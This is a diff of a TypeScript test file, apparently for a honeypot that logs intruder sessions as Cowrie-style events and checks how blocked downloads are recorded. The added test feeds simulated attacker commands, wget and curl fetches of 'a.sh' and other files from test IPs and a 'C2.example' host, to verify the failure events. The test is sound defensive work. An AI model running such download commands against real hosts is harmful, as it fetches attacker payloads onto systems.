@@ -61,8 +61,8 @@ test("every field is there and of the type that the schema gives it", () => {
   );
   assert.deepEqual(
     Object.keys(EVENTS).filter((name) => !seen.has(name)),
-    // These come with a capture, from the courier.
-    ["session.file_download", "webhook.dropped"],
+    // These are tried below, with captures, and with the courier.
+    ["session.file_download.failed", "session.file_download", "webhook.dropped"],
   );
 });
 
@@ -152,6 +152,42 @@ test("what was tried on the network, and whether it was stopped", () => {
   assert.equal(cap?.["message"], "Stopped by a cap: tcp to 203.0.113.9:80, rule cap");
   assert.equal(other?.["mitsubako_protocol_number"], 47);
   assert.equal(other["message"], "Stopped: protocol 47 to 169.254.169.254, rule fence");
+});
+
+test("a download whose own address, or name, was denied has failed; another has not", () => {
+  const talk = new Conversation().login();
+  const run = (command: string) => {
+    const exec = talk.open();
+    talk.exec(exec, command).exits(exec, 1);
+  };
+  const deny = (address: string, port: number, more: object = {}) =>
+    talk.fact({
+      ...{ kind: "network", rule: "egress", protocol: "tcp", from: 1, to: { address, port }, count: 1 },
+      ...more,
+    } as never);
+  run("cd /tmp; wget -q http://203.0.113.9/a.sh -O a || curl 203.0.113.9:8080/b; echo http://203.0.113.10/");
+  run(
+    "busybox wget http://203.0.113.9/c; /usr/bin/curl -sO https://C2.example/d; wget $URL; scp 203.0.113.9/",
+  );
+  deny("203.0.113.10", 80);
+  deny("203.0.113.9", 443);
+  deny("203.0.113.9", 80, { rule: "limited" });
+  deny("203.0.113.9", 8080, { protocol: "udp" });
+  deny("203.0.113.9", 80);
+  deny("203.0.113.9", 80);
+  deny("192.0.2.53", 53, { protocol: "udp", rule: "dns-rate", name: "c2.example" });
+  deny("203.0.113.9", 8080, { rule: "rate" });
+  const failed = map(talk.whole()).filter(({ eventid }) => eventid.endsWith(".failed"));
+  assert.deepEqual(
+    failed.map(({ eventid, url, error }) => [eventid, url, error]),
+    [
+      ["http://203.0.113.9/a.sh", "egress"],
+      ["http://203.0.113.9/c", "egress"],
+      ["https://C2.example/d", "dns-rate"],
+      ["http://203.0.113.9:8080/b", "rate"],
+    ].map(([url, rule]) => ["cowrie.session.file_download.failed", url, `denied by the rule ${rule ?? ""}`]),
+  );
+  assert.deepEqual(failed.flatMap(faults), []);
 });
 
 test("a network fact that is none, or of a rule that nobody knows, makes no event", () => {
